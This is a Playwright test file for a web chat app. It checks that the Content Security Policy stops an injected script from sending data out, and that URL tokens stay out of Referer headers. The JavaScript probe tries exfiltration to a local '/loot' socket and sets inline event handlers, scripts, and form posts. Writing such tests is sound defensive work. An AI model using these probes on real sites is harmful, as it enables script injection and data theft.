"""What a script that got into a page could do all the same: tell nobody; and what an address tells others."""

import contextlib
import socket

from playwright.sync_api import Page, Request

from tests.pages.conftest import People
from tests.pages.room import ROOM_1, is_live
from tests.server import Server

TELL = """
async elsewhere => {
  const broken = new Set();
  document.addEventListener('securitypolicyviolation', event => broken.add(event.effectiveDirective));
  const add = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
  fetch(elsewhere).catch(() => null);
  try { new WebSocket(elsewhere.replace('http', 'ws')); } catch (error) { broken.add('connect-src'); }
  new Image().src = elsewhere;
  add('img', {src: '/404', onerror: null}).setAttribute('onerror', 'window.owned = 1');
  add('p', {}).setAttribute('style', 'color: red');
  add('script', {textContent: 'window.owned = 1'});
  add('script', {src: elsewhere});
  add('iframe', {src: elsewhere});
  add('base', {href: elsewhere});
  add('form', {action: elsewhere, method: 'post'}).submit();
  await new Promise(resolve => setTimeout(resolve, 500));
  return [...broken].concat(window.owned ? ['owned'] : []).sort();
}
"""
"""Every way out of a page; which of them the page's policy has closed."""


def room(people: People) -> Page:
    """A room of the person's, open and live."""
    page = people("cliente", ROOM_1)
    is_live(page)
    return page


def said_to(outside: socket.socket) -> bytes:
    """What came over every line that was opened; Chromium opens one for what it then does not ask."""
    said = b""
    while True:
        try:
            line, _ = outside.accept()
        except TimeoutError:
            return said
        with line, contextlib.suppress(TimeoutError):
            line.settimeout(0.5)
            said += line.recv(65536)


def test_a_script_that_got_in_runs_nothing_inline_and_tells_nobody(people: People, faults: list[str]) -> None:
    page = room(people)
    with socket.create_server(("127.0.0.1", 0)) as outside:
        outside.settimeout(0.5)
        broken = page.evaluate(TELL, f"http://127.0.0.1:{outside.getsockname()[1]}/loot")
        assert said_to(outside) == b""
    assert set(broken) >= {
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
    }
    assert "owned" not in broken
    page.close()
    assert faults  # the browser has said so in its console too
    faults.clear()


def test_a_credential_in_an_address_goes_on_in_no_referer(server: Server, people: People) -> None:
    page = room(people)
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - it marks what it is given
    page.goto(f"{server.url}/ws/chat/iframe.html?token=segredo&session_key=segredo")
    loaded = [request for request in asked if "segredo" not in request.url]
    assert loaded
    assert not any("segredo" in request.all_headers().get("referer", "") for request in loaded)
